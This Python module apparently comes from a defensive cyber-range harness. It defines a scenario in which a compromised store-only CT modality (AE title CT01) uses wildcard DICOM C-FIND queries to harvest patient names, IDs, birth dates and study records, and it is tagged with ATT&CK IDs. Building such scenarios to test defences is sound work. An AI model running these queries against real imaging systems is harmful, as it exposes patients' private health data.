"""Wildcard C-FIND harvesting by a compromised store-only modality (T1119, T1213)."""

from __future__ import annotations

from radguard.range.attacks.kit import Attack, Context, Outcome


def run(ctx: Context) -> Outcome:
    matches = ctx.find("CT01", ["PatientName=*", "PatientID", "StudyInstanceUID", "StudyDate"], level="STUDY")
    matches += ctx.find("CT01", ["PatientName=*", "PatientID", "PatientBirthDate"], level="PATIENT")
    return Outcome(success=matches > 0, impact={"records_harvested": matches},
                   note=f"{matches} study/patient records returned")


ATTACK = Attack(
    name="find-harvest", title="Wildcard C-FIND harvesting", attack_ids=("T1119", "T1213"),
    precondition="a modality's AE title (CT01), which may only store",
    objective="patient/study records returned", layers=("gateway", "monitor"), run=run)
